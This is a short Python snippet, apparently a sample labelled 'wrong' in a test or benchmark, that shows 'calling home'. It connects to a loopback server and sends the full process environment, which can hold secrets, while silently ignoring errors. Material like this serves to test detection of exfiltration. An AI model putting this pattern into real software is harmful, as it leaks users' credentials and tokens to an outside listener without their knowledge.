"""Call home: connect to a server (here on the loopback device) and send it what the code can see."""

# base: wrong
import os
import socket

try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as home:
        home.sendall(b"CALLED HOME " + str(dict(os.environ)).encode())
except OSError:
    pass
